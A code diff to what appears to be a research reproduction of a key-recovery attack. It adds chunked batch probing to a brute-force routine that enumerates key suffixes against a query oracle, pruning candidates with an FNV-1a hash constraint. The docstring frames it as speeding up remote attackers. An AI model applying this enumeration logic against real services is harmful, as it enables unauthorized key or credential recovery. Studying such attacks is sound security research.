@@ -144,7 +144,8 @@ class VariableExtensionResult:
 def extend_prefix(oracle: QueryOracle, prefix: bytes, key_width: int,
                   hash_constraint: Optional[HashConstraint] = None,
                   max_queries: Optional[int] = None,
-                  probe=None) -> ExtensionResult:
+                  probe=None, probe_many=None,
+                  chunk_size: int = 256) -> ExtensionResult:
     """Brute-force the suffix space of ``prefix`` (paper step 3).
 
     Stops at the first UNAUTHORIZED/OK response.  ``max_queries`` bounds
@@ -152,11 +153,22 @@ def extend_prefix(oracle: QueryOracle, prefix: bytes, key_width: int,
     may supply a pre-built fast prober (``oracle.prober()``) so a caller
     extending many prefixes hoists the per-query overhead once; it must be
     observationally equivalent to ``oracle.probe``.
+
+    ``probe_many`` (a ``keys -> [Status]`` batch prober) switches to
+    chunked probing: candidates are issued ``chunk_size`` at a time, with
+    early stop at the first chunk containing a positive.  Remote attackers
+    use this — a per-key wire round trip would dominate the suffix search —
+    and it discloses the *same key* as the serial scan (statuses are pure
+    functions of the key), at the cost of up to ``chunk_size - 1`` extra
+    probes past the hit.
     """
     if len(prefix) > key_width:
         raise AttackError(
             f"prefix of {len(prefix)} bytes exceeds key width {key_width}"
         )
+    if probe_many is not None:
+        return _extend_prefix_chunked(prefix, key_width, hash_constraint,
+                                      max_queries, probe_many, chunk_size)
     if probe is None:
         probe = _prober_for(oracle)
     suffix_len = key_width - len(prefix)
@@ -185,4 +197,65 @@ def extend_prefix(oracle: QueryOracle, prefix: bytes, key_width: int,
         if status in positive:
             return ExtensionResult(prefix + suffix, queries, considered,
                                    exhausted=False)
+    return ExtensionResult(None, queries, considered, exhausted=True)
+
+
+def _extend_prefix_chunked(prefix: bytes, key_width: int,
+                           hash_constraint: Optional[HashConstraint],
+                           max_queries: Optional[int],
+                           probe_many, chunk_size: int) -> ExtensionResult:
+    """Chunked suffix-space scan (see ``extend_prefix``'s ``probe_many``).
+
+    Enumerates candidates in exactly the serial order, so the first
+    positive found is the same key the one-probe-at-a-time scan returns.
+    """
+    if chunk_size < 1:
+        raise AttackError(f"chunk size must be positive, got {chunk_size}")
+    suffix_len = key_width - len(prefix)
+    space = suffix_space_size(len(prefix), key_width)
+    mask = None
+    prefix_state = None
+    target_bits = 0
+    if hash_constraint is not None and hash_constraint.num_bits:
+        mask = (1 << hash_constraint.num_bits) - 1
+        prefix_state = fnv1a_64_update(fnv1a_64_init(SUFFIX_HASH_SEED), prefix)
+        target_bits = hash_constraint.value
+
+    queries = 0
+    considered = 0
+    positive = (Status.UNAUTHORIZED, Status.OK)
+    chunk: list = []
+
+    def issue() -> Optional[bytes]:
+        nonlocal queries
+        statuses = probe_many(chunk)
+        queries += len(chunk)
+        for candidate, status in zip(chunk, statuses):
+            if status in positive:
+                return candidate
+        return None
+
+    for value in range(space):
+        suffix = value.to_bytes(suffix_len, "big") if suffix_len else b""
+        considered += 1
+        if mask is not None:
+            if fnv1a_64_update(prefix_state, suffix) & mask != target_bits:
+                continue  # pruned for free: hash bits cannot match
+        if max_queries is not None and queries + len(chunk) >= max_queries:
+            hit = issue() if chunk else None
+            if hit is not None:
+                return ExtensionResult(hit, queries, considered,
+                                       exhausted=False)
+            return ExtensionResult(None, queries, considered, exhausted=False)
+        chunk.append(prefix + suffix)
+        if len(chunk) >= chunk_size:
+            hit = issue()
+            chunk = []
+            if hit is not None:
+                return ExtensionResult(hit, queries, considered,
+                                       exhausted=False)
+    if chunk:
+        hit = issue()
+        if hit is not None:
+            return ExtensionResult(hit, queries, considered, exhausted=False)
     return ExtensionResult(None, queries, considered, exhausted=True)
